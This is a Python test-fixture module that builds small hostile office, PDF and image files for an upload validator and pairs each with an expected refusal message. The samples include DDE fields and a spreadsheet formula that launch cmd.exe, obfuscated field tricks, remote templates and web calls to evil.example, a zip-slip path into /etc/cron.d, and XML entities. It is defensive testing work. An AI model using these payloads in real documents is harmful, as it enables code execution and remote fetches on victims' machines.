"""Files that could do harm, each a few bytes that are enough for it; and links and fields as office programs write them."""

import io
import struct
import zlib

import pikepdf

from tests.schools.handing import HTML, SVG, office, pdf, picture

RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.x/{kind}" Target="{to}" TargetMode="External"/></Relationships>'
)

FIELD = (
    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:fldChar/><w:r><w:instrText>{first}'
    "</w:instrText></w:r><w:r><w:instrText>{second}</w:instrText></w:r><w:fldChar/></w:p></w:hdr>"
)

OLDER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
# { { QUOTE 68 68 69 } c:\\… }: the letters of a command by their numbers.
QUOTED = (
    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:fldChar w:fldCharType="begin"/>'
    '<w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE 68 68 69 </w:instrText><w:fldChar w:fldCharType="end"/>'
    '<w:instrText> cmd </w:instrText><w:fldChar w:fldCharType="end"/></w:hdr>'
)


def wide(side=20_000):
    """A picture by its head alone: nobody need draw it to refuse it."""
    parts = (b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)), (b"IDAT", b"")
    chunks = (struct.pack(">I", len(held)) + name + held + struct.pack(">I", zlib.crc32(name + held)) for name, held in parts)
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def locked_pdf():
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


# What is sent, under which name, and a piece of the sentence it is refused with.
REFUSED = {
    "SVG with a script": (SVG, "图.svg", "PDF"),
    "SVG that calls itself PNG": (SVG, "图.png", "PDF"),
    "HTML as PDF": (HTML, "教案.pdf", "PDF"),
    "a PDF that is only its first line": (b"%PDF-1.7\n" + HTML, "教案.pdf", "PDF"),
    "a program": (b"MZ" + bytes(400), "课件.pptx", "PDF"),
    "a plain archive": (office("a.txt"), "全部.zip", "压缩包"),
    "half a document": (office()[:-30], "教案.docx", "已损坏"),
    "a document of another program": (office("content.xml", mimetype="application/vnd.oasis"), "教案.odt", "另存为PDF"),
    "another archive that calls itself a document": (b"Rar!\x1a\x07\x01\x00" + bytes(40), "教案.docx", "压缩包"),
    "nothing": (b"", "教案.pdf", "空"),
    "a document of an older kind": (OLDER + bytes(600), "教案.doc", "旧格式"),
    "an office file that is locked": (OLDER + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "教案.docx", "密码"),
    "a photo as some telephones write it": (b"\x00\x00\x00\x18ftypheic" + bytes(40), "照片.jpg", "HEIC"),
    "a picture of 400 million pixels": (wide(), "图.png", "12,000"),
    "a picture of a kind that is not taken": (picture("TIFF"), "扫描.tif", "PDF"),
    "a locked PDF": (locked_pdf(), "教案.pdf", "密码"),
    "a PDF without a page": (pdf(lambda document: document.pages.__delitem__(0)), "教案.pdf", "没有页面"),
    "a macro document": (office(**{"word/vbaProject.bin": b"x"}), "教案.docx", "宏"),
    "a macro document by another name": (office(**{"word/VbaData.xml": b"x"}), "教案.docx", "宏"),
    "an old Excel macro sheet": (office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": b"<x/>"}), "表.xlsx", "宏"),
    "an ActiveX part": (office(**{"word/activeX/activeX1.bin": b"x"}), "教案.docx", "宏"),
    "a document that says it has macros": (
        office(
            **{"[Content_Types].xml": '<Types><Override ContentType="application/x.document.macroEnabled.main+xml"/></Types>'}
        ),
        "教案.docm",
        "宏",
    ),
    "an object of another program": (office(**{"word/embeddings/oleObject1.bin": b"x"}), "教案.docx", "对象"),
    "an object in slides by another name": (
        office("ppt/presentation.xml", **{"ppt/embeddings/a.xls": OLDER + bytes(40)}),
        "课件.pptx",
        "对象",
    ),
    "an object that is only named": (
        office("ppt/presentation.xml", **{"ppt/slides/_rels/slide1.xml.rels": RELATION.format(kind="oleObject", to="a.dat")}),
        "课件.pptx",
        "对象",
    ),
    "a document within by another name": (
        office(**{"word/media/a.png": office(**{"word/vbaProject.bin": b"x"})}),
        "教案.docx",
        "宏",
    ),
    "a slide that starts a program": (
        office("ppt/presentation.xml", **{"ppt/slides/slide1.xml": '<s><hlinkClick action="ppaction://program"/></s>'}),
        "课件.pptx",
        "宏",
    ),
    "a link to a program": (
        office(
            "ppt/presentation.xml",
            **{"ppt/slides/_rels/slide1.xml.rels": RELATION.format(kind="hyperlink", to="file:///C:/a.exe")},
        ),
        "课件.pptx",
        "链接",
    ),
    "a link to a disk of another house": (
        office(**{"word/_rels/document.xml.rels": RELATION.format(kind="hyperlink", to="%5c%5cevil.example%5ca")}),
        "教案.docx",
        "链接",
    ),
    "a cell that starts a program": (
        office("xl/workbook.xml", **{"xl/worksheets/sheet1.xml": "<w><c><f>cmd|' /C calc'!A0</f></c></w>"}),
        "表.xlsx",
        "别处",
    ),
    "a cell that asks the web": (
        office(
            "xl/workbook.xml", **{"xl/worksheets/sheet1.xml": '<w><c><f>_xlfn.WEBSERVICE("http://evil.example/")</f></c></w>'}
        ),
        "表.xlsx",
        "别处",
    ),
    "a DDE link in a part with a name of its own": (
        office("xl/workbook.xml", **{"xl/other/a.dat": '<e xmlns="urn:x"><ddeLink ddeService="cmd"/></e>'}),
        "表.xlsx",
        "别处",
    ),
    "a field in a part with a name of its own": (
        office(**{"other/a.dat": FIELD.format(first="DDE", second="AUTO cmd")}),
        "教案.docx",
        "别处",
    ),
    "a field of the stricter kind of file": (
        office(
            **{
                "word/header1.xml": FIELD.replace(
                    "schemas.openxmlformats.org/wordprocessingml/2006", "purl.oclc.org/ooxml/wordprocessingml"
                ).format(first="DDE", second="AUTO cmd")
            }
        ),
        "教案.docx",
        "别处",
    ),
    "a field whose first word another field makes": (office(**{"word/header1.xml": QUOTED}), "教案.docx", "别处"),
    "zip-slip": (office(**{"../../etc/cron.d/x": b"x"}), "教案.docx", "名称"),
    "a nested archive": (office(**{"word/media/all.zip": office()}), "教案.docx", "压缩包"),
    "entities": (office(**{"word/x.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), "教案.docx", "实体"),
    "a macro document within": (office(**{"word/embeddings/a.docm": b"x"}), "教案.docx", "宏"),
    "macros two levels down": (
        office(**{"word/embeddings/a.xlsx": office("xl/workbook.xml", **{"xl/vbaProject.bin": b"x"})}),
        "教案.docx",
        "宏",
    ),
    "macros told in other letters": (
        office(**{"word/_rels/document.xml.rels": RELATION.format(kind="vba&#80;roject", to="media/a.png")}),
        "教案.docx",
        "宏",
    ),
    "a page set into the text": (office(**{"word/a.html": HTML}), "教案.docx", "宏"),
    "a page set into the text by another name": (
        office(**{"word/_rels/document.xml.rels": RELATION.format(kind="aFChunk", to="a.dat")}),
        "教案.docx",
        "宏",
    ),
    "a field that starts a program": (
        office(**{"word/header1.xml": FIELD.format(first="DDE", second='AUTO c:\\windows\\cmd.exe "/c calc"')}),
        "教案.docx",
        "别处",
    ),
    "a field that fetches a picture": (
        office(**{"word/header1.xml": FIELD.format(first=" includePicture ", second='"http://evil.example/a.png"')}),
        "教案.docx",
        "别处",
    ),
    "a table that asks the web": (
        office("xl/workbook.xml", **{"xl/connections.xml": '<c xmlns="urn:x"><webPr url="http://evil.example/"/></c>'}),
        "表.xlsx",
        "别处",
    ),
    "a picture from elsewhere behind a bracket": (
        office(
            **{
                "word/_rels/document.xml.rels": '<r><R Id="1" Type="http://schemas.x/image" Target="http://evil.example/?a>b"'
                ' TargetMode="&#69;xternal"/></r>'
            }
        ),
        "教案.docx",
        "别处",
    ),
    "a template from elsewhere in UTF-16": (
        office(
            **{
                "word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate", to="http://evil.example/t").encode(
                    "utf-16"
                )
            }
        ),
        "教案.docx",
        "别处",
    ),
    "entities in UTF-16": (
        office(**{"word/x.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")}),
        "教案.docx",
        "实体",
    ),
    "a part that is no XML": (office(**{"word/x.xml": b"<x>"}), "教案.docx", "损坏"),
    "a template from elsewhere": (
        office(**{"word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate", to="http://evil.example/t.dotm")}),
        "教案.docx",
        "别处",
    ),
}
